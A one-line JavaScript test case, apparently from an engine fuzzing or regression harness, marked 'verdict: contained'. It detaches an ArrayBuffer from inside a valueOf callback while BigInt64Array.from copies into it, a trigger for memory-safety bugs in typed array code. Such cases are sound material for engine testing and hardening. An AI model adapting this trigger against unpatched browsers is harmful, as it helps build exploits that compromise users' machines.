// verdict: contained
const b = new ArrayBuffer(4e6); BigInt64Array.from.call(function () { return new BigInt64Array(b) }, new Array(5e5).fill(7n).fill({ valueOf() { if (!b.detached) structuredClone(b, { transfer: [b] }); return 1n } }, 3e5, 3e5 + 1));
